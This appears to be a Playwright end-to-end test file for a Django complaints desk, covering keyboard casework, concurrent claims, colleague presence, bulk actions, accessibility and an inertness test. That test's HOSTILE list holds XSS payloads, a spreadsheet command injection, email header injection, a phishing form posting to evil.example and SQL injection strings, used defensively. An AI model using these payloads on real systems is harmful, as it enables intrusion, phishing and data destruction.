"""The desk in a real browser: a case from new to closed, two colleagues at once, strangers' text."""

import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from django.contrib.auth.models import User
from playwright.sync_api import Page, Response, Route, expect

from complaints import casework
from complaints.domain.cleaning import LONGEST_TEXT, clean_line, clean_text
from complaints.models import Case, OutreachAttempt, Post

pytestmark = pytest.mark.django_db(transaction=True)
ZERO_WIDTH = chr(0x200B)
RIGHT_TO_LEFT = chr(0x202E)
HOSTILE = [  # as strangers send it; what only a transport can do has tests beside the spiders
    "半个字 \ud83d",
    "a\x00b\x1b[31m红\x07",
    "长帖。" * 30_000,
    "退" * 60_000,
    f"退{ZERO_WIDTH}费 退{ZERO_WIDTH}款",
    f"{RIGHT_TO_LEFT}反过来的字",
    "\ud83d\ude21👨\u200d👩\u200d👧\u200d👦🇨🇳" * 20,
    "Z" + "\u0335\u0321\u0334" * 170,
    "ｒｅｆｕｎｄ 退費 \U00020bb7 ㈱",
    "鍏ㄩ儴閫€璐\ufeff\ufffd",
    '{"text": "{\\"text\\": \\"断了',
    "NaN Infinity 1e400 9223372036854775808",
    "刚刚 1970-01-01 2099-02-30",
    "1.2万 10万+ 3亿 -5 １２",
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "</textarea></bdi><script>document.title='owned'</script>",
    "&lt;script&gt;document.title='owned'&amp;lt;/script&amp;gt;",
    "<a href=javascript:alert(1)>x</a><style>*{display:none}</style>",
    "]]><!--<iframe src=//evil.example></iframe>-->",
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    '=HYPERLINK("http://evil.example","点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0\t\r\n\"x\",",
    "{{7919*7907}} {% debug %} ${7919*7907} #{7919*7907} %n",
    "主题\r\nBcc: everyone@evil.example\r\n\r\n",
    "a" * 3000 + "!" + "(a+)+$",
    "[" * 10_000,
    '" OR * (',
    "请完成验证 <form action=//evil.example><input name=password></form>",
    "'; DROP TABLE complaints_post; --",
]


def told_of(writing: str) -> Callable[[Response], bool]:
    """Whether an answer is the one to a page that told whether somebody is writing."""
    return lambda answer: (
        answer.url.endswith("/presence/")
        and f"writing={writing}" in (answer.request.post_data or "")
    )


@pytest.fixture(autouse=True)
def _by_day(settings: Any, tmp_path: Path) -> None:
    """Policies that never sleep: the tests run at any hour."""
    for path in settings.HUIYIN_POLICIES.glob("*.yml"):
        text = path.read_text(encoding="utf-8")
        if path.name == "outreach.yml":
            text = text.replace('["21:30", "08:30"]', '["23:59:59.999998", "00:00"]')
        (tmp_path / path.name).write_text(text, encoding="utf-8")
    settings.HUIYIN_POLICIES = tmp_path


def test_a_case_from_new_to_closed_by_keyboard_alone(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    made = make_case(
        text="@青禾网校 直播课一直卡，孩子没法上", severity=2, author_id="77",
        author_name="王小明",
    )  # fmt: skip
    Post.objects.update(published_at=datetime.now(UTC))
    colleague("lili", "manager", "李丽")
    sign_in(page, "lili")
    keys = page.keyboard
    status = page.locator("#case").get_by_test_id("status")
    keys.press("j")
    expect(status).to_have_text("新")
    keys.press("c")
    expect(status).to_have_text("已认领")
    keys.press("r")
    expect(page.get_by_test_id("reserve").first).to_be_focused()
    keys.press("Enter")
    expect(page.get_by_test_id("composer")).to_be_visible()
    expect(page.get_by_test_id("draft")).to_have_value(re.compile("李丽"))
    expect(page.locator(".guard")).to_have_count(1)
    keys.press("r")
    expect(page.get_by_test_id("draft")).to_be_focused()
    keys.press("Tab")
    while not page.get_by_test_id("record-sent").evaluate("b => b === document.activeElement"):
        keys.press("Tab")
    keys.press("Enter")
    expect(status).to_have_text("已联系")
    keys.press("s")
    keys.type("原因是新版本的问题，已修复，请更新后再试。")
    keys.press("Control+Enter")
    expect(status).to_have_text("已答复")
    keys.press("f")
    keys.type("可以正常上课了")
    keys.press("Control+Enter")
    expect(status).to_have_text("已回访")
    keys.press("e")
    keys.press("Enter")
    expect(status).to_have_text("已结案")
    made.refresh_from_db()
    assert (made.status, made.result) == ("closed", "satisfied")
    assert OutreachAttempt.objects.get().state == "sent"


def test_of_two_who_claim_at_once_exactly_one_gets_it(
    page: Page, second_page: Page, sign_in: Any, colleague: Callable[..., User],
    make_case: Callable[..., Any],
) -> None:  # fmt: skip
    made = make_case(text="直播课一直卡")
    colleague("lili", "manager", "李丽")
    colleague("wang", "manager", "王芳")
    for browser_page, name in ((page, "lili"), (second_page, "wang")):
        sign_in(browser_page, name)
        browser_page.goto(f"/desk/cases/{made.number}/")
        browser_page.wait_for_load_state()
    page.keyboard.press("c")
    second_page.keyboard.press("c")
    for browser_page in (page, second_page):
        expect(browser_page.locator(".case-owner")).to_contain_text(re.compile("李丽|王芳"))
    made.refresh_from_db()
    assert made.assignee is not None  # whose press arrived first is up to the network
    owner, later = (page, second_page) if made.assignee.username == "lili" else (second_page, page)
    name = made.assignee.first_name
    expect(later.get_by_test_id("error-banner")).to_contain_text(f"{name}（认领）")
    for browser_page in (owner, later):
        expect(browser_page.locator(".case-owner")).to_contain_text(name)
    expect(owner.get_by_test_id("error-banner")).to_have_count(0)
    assert made.events.filter(kind="assigned").count() == 1


def test_what_is_being_typed_outlives_a_colleague_s_change(
    page: Page, second_page: Page, sign_in: Any, colleague: Callable[..., User],
    make_case: Callable[..., Any], now: datetime,
) -> None:  # fmt: skip
    made = make_case(text="直播课一直卡", severity=2)
    lili, wang = colleague("lili", "manager", "李丽"), colleague("wang", "manager", "王芳")
    casework.assign(made.pk, 1, lili, lili, now)
    Case.objects.update(status="contacted")
    sign_in(page, "lili")
    page.goto(f"/desk/cases/{made.number}/")
    page.get_by_test_id("answer-text").fill("原因是新版本，今晚 8 点前修好。")
    page.locator("#note").fill("写到一半的备注")
    made.refresh_from_db()
    casework.confirm(made.pk, made.edit, wang, now)
    made.refresh_from_db()
    casework.grade(made.pk, made.edit, wang, made.category, 3, now)
    page.get_by_test_id("answer").click()
    expect(page.get_by_test_id("error-banner")).to_contain_text("王芳（改判）、王芳（确认是投诉）")
    expect(page.get_by_test_id("answer-text")).to_have_value("原因是新版本，今晚 8 点前修好。")
    page.get_by_test_id("answer").click()
    expect(page.locator("#case").get_by_test_id("status")).to_have_text("已答复")
    expect(page.locator("#note")).to_have_value("写到一半的备注")
    expect(page.get_by_test_id("answer-text")).to_have_value("")


def test_what_was_typed_since_is_not_put_back(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    made = make_case(text="直播课一直卡")
    colleague("lili", "manager", "李丽")
    sign_in(page, "lili")
    address = f"/desk/cases/{made.number}/"
    page.goto(address)
    page.locator("#note").fill("写到一半")

    def with_the_note(route: Route) -> None:
        html = route.fetch().text()
        route.fulfill(body=re.sub(r'(<textarea[^>]*id="note"[^>]*>)', r"\1写到一半", html))

    page.route(f"**{address}", with_the_note)
    again = "address => htmx.ajax('GET', address, {target: '#case', swap: 'outerHTML'})"
    page.evaluate(again, address)
    expect(page.locator("#note")).to_have_js_property("defaultValue", "写到一半")
    page.locator("#note").fill("写完了的备注")
    with page.expect_response(told_of("no")):
        page.get_by_test_id("note").focus()
    page.wait_for_timeout(300)  # htmx settles the answer a moment after it came
    expect(page.locator("#note")).to_have_value("写完了的备注")


def test_a_lead_hands_out_what_nobody_has_in_one_go(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    made = [make_case(text=f"一直卡 {n}", author_id=str(n)) for n in range(3)]
    colleague("boss", "lead", "陈岚")
    wang = colleague("wang", "manager", "王芳")
    sign_in(page, "boss")
    page.goto("/desk/?view=unassigned")
    page.wait_for_load_state()
    for _ in made:
        page.keyboard.press("j")
        page.keyboard.press("x")
    page.keyboard.press("a")
    page.locator("#bulk").get_by_role("button", name="王芳").click()
    expect(page.get_by_text("已处理 3 个个案")).to_be_visible()
    expect(page.get_by_test_id("queue-empty")).to_contain_text("每个个案都有人接手")
    assert set(Case.objects.values_list("assignee", flat=True)) == {wang.pk}


def test_a_row_shows_which_colleague_has_its_case_open(
    page: Page, second_page: Page, sign_in: Any, colleague: Callable[..., User],
    make_case: Callable[..., Any],
) -> None:  # fmt: skip
    made, other = make_case(text="一直卡"), make_case(text="又卡了", author_id="9")
    colleague("lili", "manager", "李丽")
    colleague("wang", "manager", "王芳")
    sign_in(second_page, "wang")
    second_page.goto(f"/desk/cases/{made.number}/")
    with second_page.expect_response(told_of("yes")):
        second_page.locator("#note").focus()
    sign_in(page, "lili")
    page.goto("/desk/")
    expect(page.locator(f"#row-{made.number} .row-here")).to_contain_text("王芳正在写")
    expect(page.locator(f"#row-{other.number} .row-here")).to_have_count(0)


def test_colleagues_see_who_else_is_there(
    page: Page, second_page: Page, sign_in: Any, colleague: Callable[..., User],
    make_case: Callable[..., Any],
) -> None:  # fmt: skip
    made = make_case(text="直播课一直卡")
    colleague("lili", "manager", "李丽")
    colleague("wang", "manager", "王芳")
    sign_in(second_page, "wang")
    second_page.goto(f"/desk/cases/{made.number}/")
    second_page.keyboard.press("n")
    second_page.keyboard.type("我来看看")
    sign_in(page, "lili")
    page.goto(f"/desk/cases/{made.number}/")
    expect(page.get_by_test_id("presence")).to_contain_text("王芳正在写", timeout=15_000)


def test_new_cases_wait_behind_a_button_and_move_no_row(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    make_case(text="直播课一直卡")
    colleague("lili", "manager")
    sign_in(page, "lili")
    make_case(text="要起诉", severity=3)
    page.evaluate("htmx.ajax('GET', document.querySelector('#news').getAttribute('hx-get'), "
                  "{target: '#news', swap: 'outerHTML'})")  # fmt: skip
    expect(page.get_by_test_id("news")).to_have_text("1 条新投诉")
    expect(page.get_by_test_id("queue-row")).to_have_count(1)
    page.get_by_test_id("news").click()
    expect(page.get_by_test_id("queue-row")).to_have_count(2)


def test_many_are_dismissed_by_two_keys_and_taken_back(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    for number in range(3):
        make_case(text=f"广告 {number}", author_id=str(number))
    colleague("lili", "manager")
    sign_in(page, "lili")
    for _ in range(3):
        page.keyboard.press("j")
        page.keyboard.press("x")
    page.keyboard.press("d")
    page.keyboard.press("Enter")
    expect(page.get_by_test_id("queue-empty")).to_be_visible()
    assert Case.objects.filter(status="dismissed").count() == 3
    page.get_by_test_id("undo-bulk").click()
    expect(page.get_by_test_id("queue-row")).to_have_count(3)


def test_strangers_text_is_inert_on_every_page(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    numbers = []
    for number, sent in enumerate(HOSTILE):
        text, line = clean_text(sent)[:LONGEST_TEXT], clean_line(sent, 40)
        made = make_case(
            text=f"{text} 青禾", author_id=str(number), author_name=line, region=line, device=line
        )
        numbers.append(made.number)
    colleague("boss", "admin", "管理员")
    sign_in(page, "boss")
    for address in ["/desk/", *(f"/desk/cases/{number}/" for number in numbers)]:
        page.goto(address)
        page.wait_for_load_state()
        assert "owned" not in page.title()
        made_of_text = ":is(bdi, .post-text, .row-text) :is(script, img, svg, style, form), bdi a"
        assert page.locator(f"{made_of_text}, iframe").count() == 0
        assert str(7919 * 7907) not in page.content()
    assert Post.objects.count() == len(HOSTILE)
    inline = page.evaluate("[...document.querySelectorAll('script')].filter(s => !s.src).length")
    assert inline == 0


def test_a_customer_rates_without_an_account(
    page: Page, colleague: Callable[..., User], make_case: Callable[..., Any], now: Any
) -> None:
    from complaints.following_up import link_token

    made = make_case(text="直播课一直卡")
    Case.objects.filter(pk=made.pk).update(status="answered", answered_at=now)
    made.refresh_from_db()
    page.goto(f"/s/{link_token(made)}/")
    page.get_by_test_id("score-2").click()
    expect(page.get_by_test_id("thanks")).to_contain_text("再联系您")
    made.refresh_from_db()
    assert (made.satisfaction, made.status) == (2, "contacted")


@pytest.mark.parametrize("size", [(1280, 800), (375, 812)])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_serious_fault_of_accessibility(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any],
    now: Any, size: tuple[int, int], scheme: Any,
) -> None:  # fmt: skip
    boss = colleague("boss", "admin", "管理员")
    made = make_case(
        text="@青禾网校 一直卡", author_id="1", author_name="王", category="refund_fees"
    )
    make_case(text="拿不准的一条", label="unsure", severity=3)
    answered = make_case(text="退费", author_id="2", category="refund_fees", severity=1)
    Case.objects.filter(pk=made.pk).update(assignee=boss, status="claimed")
    Case.objects.filter(pk=answered.pk).update(
        assignee=boss, status="answered", answered_at=now, first_response_at=now
    )
    page.set_viewport_size({"width": size[0], "height": size[1]})
    page.emulate_media(color_scheme=scheme)
    page.goto("/account/login/")
    assert faults(page) == []
    sign_in(page, "boss")
    page.wait_for_load_state("networkidle")
    for address in ("/desk/", f"/desk/cases/{made.number}/", f"/desk/cases/{answered.number}/"):
        page.goto(address)
        page.wait_for_load_state("networkidle")
        assert faults(page) == [], address
        wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        assert page.evaluate(wide) == 0, address


def faults(page: Page) -> list[str]:
    """Serious and critical faults that axe-core finds, with where."""
    found = Axe().run(page).response["violations"]
    return [
        f"{fault['id']}: {fault['nodes'][0]['html'][:160]} {fault['nodes'][0].get('failureSummary', '')[:200]}"
        for fault in found
        if fault["impact"] in ("serious", "critical")
    ]
